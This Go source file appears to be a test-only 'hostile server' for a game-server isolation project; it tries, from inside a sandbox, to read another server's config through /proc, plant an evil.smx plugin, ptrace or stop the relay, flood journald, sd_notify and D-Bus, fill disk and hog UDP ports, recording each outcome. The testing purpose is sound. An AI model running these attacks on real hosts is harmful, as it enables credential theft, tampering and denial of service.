package main

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Test-only: a hostile server. A server runs third-party code (SourceMod
// plugins, workshop content, a compromised engine), and such code can do
// whatever its user may: the isolation tests make the stand-in try, from
// inside its sandbox, what a plugin could try against another server of the
// same host (issue 26: read its rcon_password through /proc/PID/cwd, write
// a plugin through /proc/PID/root, signal it). The real engine has no such
// mode; nothing here imitates it.
//
// GAME/cfg/standin_attack (from an overlay) lists the targets, one per
// line: "pid N" (a process of the other server), "read PATH" (a file to
// read), "write PATH" (a file to create), "list PATH" (a directory) and
// "signal-relay" (SIGCONT to its parent, the relay: harmless, but the
// same permission as SIGSTOP), "blind-relay" (lower the relay's open-file
// limit to 8 with prlimit(2), which needs only the same uid, so that its
// socket count fails; once per instance, GAME/standin-relay-blinded), "fallocate PATH N" (take N bytes of disk at once, past its disk
// ceiling before the timer looks), "io_uring" (set up a ring, through which
// it could fallocate too), "journal PATH" (a socket of journald's to log to directly, bypassing the
// relay: a datagram socket, or else a stream one), "notify PATH N" (N
// sd_notify datagrams to systemd's socket at PATH, each of which PID 1
// refuses and logs), "connect PATH" (a stream socket of a daemon's, such as
// the system bus, to hold a login open on; "@NAME": an abstract one, of
// the network namespace the servers share with the host), "core" (raise its core dump
// limit to take dumps outside its disk ceiling), "hold PATH N" (write N
// bytes to PATH, delete it and keep it open: disk no tree walk sees),
// "fill PATH" (write to PATH until the filesystem refuses, as a plugin
// logging in a loop would, and keep it: the attempt's error says why it
// stopped).
// Each attempt and its
// outcome go to GAME/standin-attack.json. "flood N" then prints N bytes of
// console lines as fast as the terminal takes them (a plugin printing in a
// loop), after the attempts; it is not an attempt. Nor is "ports N": N
// UDP sockets on ports the kernel picks from the host's ephemeral range,
// handed to a process of their own that leaves the server's process group
// and session (setsid), as a plugin may (SourceMod's Socket extension and
// SteamWorks give plugins sockets): the host's ports taken from its
// neighbours. Once per instance (GAME/standin-ports-taken). Nor is
// "stop-relay DURATION": that long after the attempts, SIGSTOP to its
// parent, the relay (kill(2) allows it: the same user), which then
// neither counts its sockets nor relays its console, as a SourceMod
// extension (a native .so loaded into srcds, free to call kill(2)) or a
// compromised engine could; "ports" is then taken after it, once per
// instance (GAME/standin-relay-stopped).

// attempt is one attack and whether it worked.
type attempt struct {
	What string `json:"what"`
	OK   bool   `json:"ok"`
	Err  string `json:"err,omitempty"`
}

// attackFile names the targets below the game directory.
const attackFile = "cfg/standin_attack"

// attack runs the attacks GAME/cfg/standin_attack asks for, if it exists,
// and writes their outcomes next to the report.
func attack(game string, out io.Writer, logf func(string, ...any)) {
	f, err := os.Open(filepath.Join(game, attackFile))
	if err != nil {
		return
	}
	defer f.Close()
	var pids []int
	var reads, writes, lists, journals []string
	var notifies, connects, holds, fills []string
	core, ring, signalRelay, blindRelay := false, false, false, false
	var fallocs []string
	flood, ports := 0, 0
	var stopRelay time.Duration
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		verb, arg, _ := strings.Cut(strings.TrimSpace(sc.Text()), " ")
		switch verb {
		case "pid":
			if n, err := strconv.Atoi(arg); err == nil {
				pids = append(pids, n)
			}
		case "read":
			reads = append(reads, arg)
		case "write":
			writes = append(writes, arg)
		case "list":
			lists = append(lists, arg)
		case "journal":
			journals = append(journals, arg)
		case "notify":
			notifies = append(notifies, arg)
		case "connect":
			connects = append(connects, arg)
		case "core":
			core = true
		case "signal-relay":
			signalRelay = true
		case "blind-relay":
			blindRelay = true
		case "fallocate":
			fallocs = append(fallocs, arg)
		case "io_uring":
			ring = true
		case "hold":
			holds = append(holds, arg)
		case "fill":
			fills = append(fills, arg)
		case "flood":
			flood, _ = strconv.Atoi(arg)
		case "ports":
			ports, _ = strconv.Atoi(arg)
		case "stop-relay":
			stopRelay, _ = time.ParseDuration(arg)
		}
	}
	var attempts []attempt
	try := func(what string, err error) {
		a := attempt{What: what, OK: err == nil}
		if err != nil {
			a.Err = err.Error()
		}
		attempts = append(attempts, a)
	}
	for _, pid := range pids {
		proc := "/proc/" + strconv.Itoa(pid)
		_, err := os.Stat(proc)
		try("see "+proc, err)
		// Its working directory is its merged tree (srcds chdirs there).
		_, err = os.ReadFile(proc + "/cwd/left4dead2/cfg/server.cfg")
		try("read "+proc+"/cwd/left4dead2/cfg/server.cfg", err)
		try("write "+proc+"/cwd/left4dead2/addons/evil.smx", os.WriteFile(proc+"/cwd/left4dead2/addons/evil.smx", []byte("evil"), 0o644))
		for _, p := range reads {
			_, err := os.ReadFile(proc + "/root" + p)
			try("read "+proc+"/root"+p, err)
		}
		for _, p := range writes {
			try("write "+proc+"/root"+p, os.WriteFile(proc+"/root"+p, []byte("evil"), 0o644))
		}
		mem, err := os.OpenFile(proc+"/mem", os.O_RDWR, 0)
		if err == nil {
			mem.Close()
		}
		try("open "+proc+"/mem for writing", err)
		err = syscall.PtraceAttach(pid)
		if err == nil {
			_ = syscall.PtraceDetach(pid)
		}
		try(fmt.Sprintf("ptrace(PTRACE_ATTACH, %d)", pid), err)
		// Last: SIGINT makes a server quit (it would end the target).
		try(fmt.Sprintf("kill(%d, SIGINT)", pid), syscall.Kill(pid, syscall.SIGINT))
	}
	if signalRelay {
		try("signal its relay", syscall.Kill(os.Getppid(), syscall.SIGCONT))
		try("signal each thread of its relay", signalThreads(os.Getppid()))
	}
	if blindRelay && once(filepath.Join(game, "standin-relay-blinded")) {
		low := unix.Rlimit{Cur: 8, Max: 8}
		try("lower its relay's open-file limit", unix.Prlimit(os.Getppid(), unix.RLIMIT_NOFILE, &low, nil))
	}
	for _, p := range reads {
		_, err := os.ReadFile(p)
		try("read "+p, err)
	}
	for _, p := range writes {
		try("write "+p, os.WriteFile(p, []byte("evil"), 0o644))
	}
	for _, p := range lists {
		_, err := os.ReadDir(p)
		try("list "+p, err)
	}
	for _, p := range journals {
		try("log to "+p, logDirect(p))
	}
	for _, a := range notifies {
		p, count, _ := strings.Cut(a, " ")
		n, _ := strconv.Atoi(count)
		try(fmt.Sprintf("send %d notifications to %s", n, p), notifyFlood(p, n))
	}
	for _, p := range connects {
		try("connect to "+p, holdLogin(p))
	}
	if core {
		try("raise its core dump limit", raiseCore())
	}
	for _, a := range fallocs {
		p, size, _ := strings.Cut(a, " ")
		n, _ := strconv.ParseInt(size, 10, 64)
		try(fmt.Sprintf("fallocate %d bytes in %s", n, p), fallocate(p, n))
	}
	if ring {
		try("set up an io_uring", ioURing())
	}
	for _, p := range fills {
		n, err := fillFile(p)
		try(fmt.Sprintf("fill %s (%d bytes written)", p, n), err)
	}
	for _, a := range holds {
		p, size, _ := strings.Cut(a, " ")
		n, _ := strconv.Atoi(size)
		if err := holdDeleted(p, n); err != nil {
			logf("attack: hold %s: %v", p, err)
		} else {
			logf("attack: holding %d bytes in %s, deleted", n, p)
		}
	}
	takeAll := func() {
		if ports > 0 && once(filepath.Join(game, "standin-ports-taken")) {
			if pid, err := takePorts(ports); err != nil {
				logf("attack: ports: %v", err)
			} else {
				logf("attack: PID %d holds %d UDP ports", pid, ports)
			}
		}
	}
	if stopRelay > 0 && once(filepath.Join(game, "standin-relay-stopped")) {
		// Once the server runs (the relay told systemd it is ready): its
		// parent is the relay (ExecStart= runs the relay, which runs the
		// engine), the same user, so the signal is allowed. The ports are
		// taken after, so only the stop lets them stay.
		go func() {
			time.Sleep(stopRelay)
			relay := os.Getppid()
			logf("attack: stopping PID %d (its relay)", relay)
			time.Sleep(500 * time.Millisecond) // that line reaches the journal first
			if err := syscall.Kill(relay, syscall.SIGSTOP); err != nil {
				logf("attack: stop-relay: %v", err)
			}
			takeAll()
		}()
	} else {
		takeAll()
	}
	if flood > 0 {
		start := time.Now()
		line := []byte("standin: flood " + strings.Repeat("x", 984) + "\n") // 1000 bytes
		n := 0
		for ; n < flood; n += len(line) {
			if _, err := out.Write(line); err != nil {
				logf("flood: %v", err)
				break
			}
		}
		logf("attack: flooded %d bytes in %v", n, time.Since(start).Round(time.Millisecond))
	}
	data, _ := json.MarshalIndent(attempts, "", "  ") // plain structs always encode
	path := filepath.Join(game, "standin-attack.json")
	if err := os.WriteFile(path, append(data, '\n'), 0o644); err != nil {
		logf("attack: %v", err)
		return
	}
	worked := 0
	for _, a := range attempts {
		if a.OK {
			worked++
		}
	}
	logf("attack: %d of %d attempts worked, see %s", worked, len(attempts), path)
}

// notifyFlood sends n sd_notify(3) datagrams to the socket at path, as a
// plugin may to crowd PID 1's messages out of the journal: a message from
// a process other than the main one is refused and logged, each
// (NotifyAccess=exec; service_notify_message_authorized(),
// src/core/service.c, systemd 252).
func notifyFlood(path string, n int) error {
	c, err := net.Dial("unixgram", path)
	if err != nil {
		return err
	}
	defer c.Close()
	for range n {
		if _, err := c.Write([]byte("STATUS=standin: forged\nWATCHDOG=1")); err != nil {
			return err
		}
	}
	return nil
}

// holdLogin connects to the stream socket at path and begins a D-Bus
// login it never finishes: dbus-daemon keeps 64 such connections
// (max_incomplete_connections) and drops each after auth_timeout, 30 s
// (bus/config-parser.c, the defaults of dbus 1.14), logging each drop;
// measured on Debian 12, nobody else was served meanwhile. (The attempt
// ends at once here: whether it could connect is what counts.)
func holdLogin(path string) error {
	c, err := net.Dial("unix", path)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write([]byte("\x00AUTH EXTERNAL "))
	return err
}

// holdDeleted writes n bytes to path, deletes it and keeps it open until
// the process ends (a raw descriptor: nothing closes it). Not an attempt
// of the report: the disk timer's answer to it is the test.
func holdDeleted(path string, n int) error {
	fd, err := syscall.Open(path, syscall.O_RDWR|syscall.O_CREAT|syscall.O_TRUNC, 0o600)
	if err != nil {
		return err
	}
	buf := make([]byte, 1<<20)
	for left := n; left > 0; left -= len(buf) {
		if _, err := syscall.Write(fd, buf[:min(left, len(buf))]); err != nil {
			return err
		}
	}
	return syscall.Unlink(path)
}

// fillFile writes to path until a write fails, in MiBs, then in blocks
// (as a plugin logging a line at a time ends up taking the last one), and
// returns how much it wrote and the last failure.
func fillFile(path string) (int64, error) {
	fd, err := syscall.Open(path, syscall.O_WRONLY|syscall.O_CREAT|syscall.O_TRUNC, 0o600)
	if err != nil {
		return 0, err
	}
	defer syscall.Close(fd)
	var n int64
	for _, size := range []int{1 << 20, 4096} {
		buf := make([]byte, size)
		for {
			w, err := syscall.Write(fd, buf)
			n += int64(max(w, 0))
			if err == nil {
				err = syscall.Fsync(fd) // the blocks taken now, not at writeback
			}
			if err == syscall.ENOSPC && size > 4096 {
				break
			}
			if err != nil {
				return n, err
			}
		}
	}
	return n, nil
}

// raiseCore raises the soft core dump limit to the hard one, which a
// process may: with a hard limit above 0 its crash leaves a core file.
func raiseCore() error {
	var r syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_CORE, &r); err != nil {
		return err
	}
	if r.Max == 0 {
		return errors.New("the hard limit is 0")
	}
	r.Cur = r.Max
	return syscall.Setrlimit(syscall.RLIMIT_CORE, &r)
}

// logDirect writes one entry of the native protocol (systemd's
// JOURNAL_NATIVE_PROTOCOL) to the socket at path: journald takes datagrams
// on /run/systemd/journal/socket and dev-log, a stream on .../stdout.
func logDirect(path string) error {
	msg := []byte("MESSAGE=standin: logged past the relay\n")
	c, err := net.Dial("unixgram", path)
	if errors.Is(err, syscall.EPROTOTYPE) {
		if c, err = net.Dial("unix", path); err == nil {
			// The stream protocol's header: identifier, unit id, priority,
			// level prefix, forward to syslog, kmsg, console.
			msg = []byte("standin\n\n6\n0\n0\n0\n0\nstandin: logged past the relay\n")
		}
	}
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write(msg)
	return err
}

// once creates path, telling whether it did (it was not there).
func once(path string) bool {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err == nil {
		f.Close()
	}
	return err == nil
}

// takePorts binds n UDP sockets to ports of the kernel's choosing and
// hands them to a sleep(1) in a session of its own, which holds them
// until it is killed; it returns that process's PID.
func takePorts(n int) (int, error) {
	null, err := syscall.Open("/dev/null", syscall.O_RDWR, 0)
	if err != nil {
		return 0, err
	}
	files := []uintptr{uintptr(null), uintptr(null), uintptr(null)}
	defer func() {
		for _, fd := range files[2:] {
			syscall.Close(int(fd))
		}
	}()
	for range n {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM|syscall.SOCK_CLOEXEC, 0)
		if err != nil {
			return 0, err
		}
		files = append(files, uintptr(fd))
		if err := syscall.Bind(fd, &syscall.SockaddrInet4{}); err != nil {
			return 0, fmt.Errorf("bind socket %d of %d: %w", len(files)-3, n, err)
		}
	}
	return syscall.ForkExec("/bin/sleep", []string{"sleep", "infinity"}, &syscall.ProcAttr{Files: files, Sys: &syscall.SysProcAttr{Setsid: true}})
}

// fallocate takes n bytes of disk for path at once (fallocate(2)), then
// removes the file: whether it could is the attempt.
func fallocate(path string, n int64) error {
	fd, err := syscall.Open(path, syscall.O_RDWR|syscall.O_CREAT|syscall.O_TRUNC, 0o600)
	if err != nil {
		return err
	}
	defer syscall.Unlink(path)
	defer syscall.Close(fd)
	return syscall.Fallocate(fd, 0, 0, n)
}

// ioURing sets up an io_uring of one entry (io_uring_setup(2)) and closes
// it: whether it could is the attempt.
func ioURing() error {
	params := make([]byte, 120) // struct io_uring_params, zeroed
	fd, _, errno := syscall.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params[0])), 0)
	if errno != 0 {
		return errno
	}
	return syscall.Close(int(fd))
}

// signalThreads sends SIGCONT to each thread of pid (a SIGSTOP to any one
// stops them all): nil if one took it, else why not. The thread IDs are
// guessed, as an attacker would, from pid on (/proc/PID/task of a relay
// is hidden: it is not dumpable and ProtectProc=invisible): EPERM for a
// thread that is there, ESRCH for one that is not.
func signalThreads(pid int) error {
	var err error = unix.ESRCH
	for tid := pid; tid < pid+512; tid++ {
		switch e := unix.Tgkill(pid, tid, unix.SIGCONT); {
		case e == nil:
			return nil
		case e != unix.ESRCH:
			err = e
		}
	}
	return err
}
